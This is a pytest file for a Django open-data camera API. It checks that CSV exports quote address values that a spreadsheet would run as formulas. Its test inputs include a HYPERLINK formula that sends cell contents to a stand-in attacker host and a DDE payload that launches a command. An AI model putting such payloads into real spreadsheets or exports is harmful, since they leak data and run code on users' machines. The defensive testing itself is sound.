"""The open data CSV opened in a spreadsheet: a camera's address is text, never a formula.

Addresses come from OpenStreetMap's addr:* tags (which anyone may edit) and from editors; a
spreadsheet runs a cell that starts with = + - @ (or a tab or carriage return before one) as a
formula, such as =HYPERLINK(...) or a DDE command (CWE-1236).
"""

import csv
import io

import pytest

from .factories import CameraFactory

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(
    "address",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Knez Mihailova 1")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        # Spreadsheets skip whitespace before a formula: these run too.
        "  =1+1",
        ' =HYPERLINK("https://evil.example/?"&A1,"Knez Mihailova 1")',
        "\n=1+1",
        "@SUM(1)",
    ],
)
def test_an_address_that_looks_like_a_formula_stays_text(client, address):
    CameraFactory(address=address)

    rows = list(csv.DictReader(io.StringIO(client.get("/api/cameras.csv").content.decode())))

    # Quoted with an apostrophe, as spreadsheets themselves mark text that looks like a formula.
    assert rows[0]["address"] == f"'{address}"
    # The GeoJSON, which no spreadsheet runs, keeps the address as it is.
    feature = client.get("/api/cameras.geojson").json()["features"][0]
    assert feature["properties"]["address"] == address


def test_an_ordinary_address_is_left_alone(client):
    CameraFactory(address="Bulevar kralja Aleksandra 73/II")

    rows = list(csv.DictReader(io.StringIO(client.get("/api/cameras.csv").content.decode())))

    assert rows[0]["address"] == "Bulevar kralja Aleksandra 73/II"


def test_numbers_stay_numbers(client):
    # West of Greenwich: a negative longitude in a number column is a number, not a formula.
    camera = CameraFactory(latitude=51.5, longitude=-0.5, direction=0, address="-")

    rows = list(csv.DictReader(io.StringIO(client.get("/api/cameras.csv").content.decode())))

    assert (rows[0]["id"], rows[0]["latitude"], rows[0]["longitude"]) == (
        str(camera.pk),
        "51.5",
        "-0.5",
    )
    assert rows[0]["direction"] == "0"
    assert rows[0]["address"] == "'-"  # text, though
